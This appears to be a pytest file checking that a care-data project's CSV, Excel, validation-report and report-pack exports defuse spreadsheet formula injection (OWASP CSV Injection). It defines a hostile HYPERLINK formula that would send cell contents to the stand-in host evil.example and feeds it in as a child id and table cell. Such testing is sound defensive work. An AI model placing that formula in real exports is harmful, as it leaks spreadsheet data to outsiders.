"""Every CSV and Excel export neutralises cells a spreadsheet would run as formulas (OWASP CSV
Injection) and writes text as text: one test per export, each with a hostile CHILD id or label."""

from __future__ import annotations

import csv
import io
from datetime import date

import openpyxl
import polars as pl
import pytest

from carewise.exports import FORMULA_START, frame_csv, frame_xlsx, neutralise

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"x")'


@pytest.mark.parametrize("start", FORMULA_START)
def test_text_starting_like_a_formula_gets_a_leading_quote(start):
    assert neutralise(f"{start}1+1") == f"'{start}1+1"


@pytest.mark.parametrize("value", ["ABC123", "x", "", "1-2", "a=b", 5, -3.5, None, "–"])
def test_other_values_are_left_alone(value):
    assert neutralise(value) == value


def _cells(workbook_bytes_or_path) -> list[tuple[object, str]]:
    """Every non-empty cell of every sheet as (value, openpyxl data type: s text, n number, f formula)."""
    source = io.BytesIO(workbook_bytes_or_path) if isinstance(workbook_bytes_or_path, bytes) else workbook_bytes_or_path
    book = openpyxl.load_workbook(source)
    return [(c.value, c.data_type) for ws in book.worksheets for row in ws.iter_rows() for c in row
            if c.value is not None]


def _assert_safe(cells: list[tuple[object, str]]) -> None:
    assert not [v for v, t in cells if t == "f"], "no formulas"
    texts = [v for v, t in cells if t == "s"]
    assert not [v for v in texts if v.startswith(FORMULA_START)], "no text that starts like a formula"


def test_frames_as_csv_and_excel():
    frame = pl.DataFrame({"category": [HOSTILE, "@SUM(1)", "ok"], "value": [1, 2, 3]})
    rows = list(csv.reader(io.StringIO(frame_csv(frame))))
    assert rows[1][0] == "'" + HOSTILE and rows[2][0] == "'@SUM(1)" and rows[3][0] == "ok"
    cells = _cells(frame_xlsx(frame, "Sheet"))
    _assert_safe(cells)
    assert ("'" + HOSTILE, "s") in cells and (2, "n") in cells, "numbers stay numbers"


def _hostile_validation():
    from carewise.returns.build import return_from_rows
    from carewise.validate import validate_returns

    episode = {"CHILD": HOSTILE, "DECOM": "01/06/2024", "RNE": "S", "LS": "C2", "CIN": "N1", "PLACE": "U4",
               "PLACE_PROVIDER": "PR1"}
    ret = return_from_rows("2024-25", header=[{"CHILD": HOSTILE, "SEX": "9", "DOB": "03/03/2011",
                                               "ETHNIC": "WBRI"}], episodes=[episode])
    result = validate_returns({ret.year: ret})
    assert result.errors and all(e.child.startswith("=") for e in result.errors)
    return result


def test_validation_report_csv(tmp_path):
    from carewise.validate.report import write_report

    path = write_report(_hostile_validation(), tmp_path / "report.csv", "csv")
    with path.open(encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.DictReader(fh))
    assert rows and all(r["child"] == "'" + HOSTILE.upper() for r in rows)


def test_validation_report_excel(tmp_path):
    from carewise.validate.report import write_report

    path = write_report(_hostile_validation(), tmp_path / "report.xlsx", "xlsx")
    cells = _cells(path)
    _assert_safe(cells)
    assert ("'" + HOSTILE.upper(), "s") in cells


def test_panel_pack_workbook(tmp_path):
    from carewise.measures.period import parse_period
    from carewise.reports.model import Cell, PackData, Section, TableBlock
    from carewise.reports.render_xlsx import render_xlsx

    data = PackData(la_code=None, council_name="=Test council", period=parse_period("2024-25"), audience="internal",
                    current={}, last_quarter={}, last_year={}, trend=[], generated=date(2025, 6, 1))
    table = TableBlock(id="placements", title="Placements", columns=["Provider", "+Children"],
                       rows=[[Cell(HOSTILE), Cell("-x")], [Cell("Own"), Cell("4", 4)]])
    cells = _cells(render_xlsx(data, [Section(id="s", title="S", blocks=[table])], tmp_path / "pack.xlsx"))
    _assert_safe(cells)
    assert ("'" + HOSTILE, "s") in cells and ("'+Children", "s") in cells and (4, "n") in cells
    assert any(isinstance(v, str) and v.startswith("'=Test council") for v, _ in cells), "the title too"
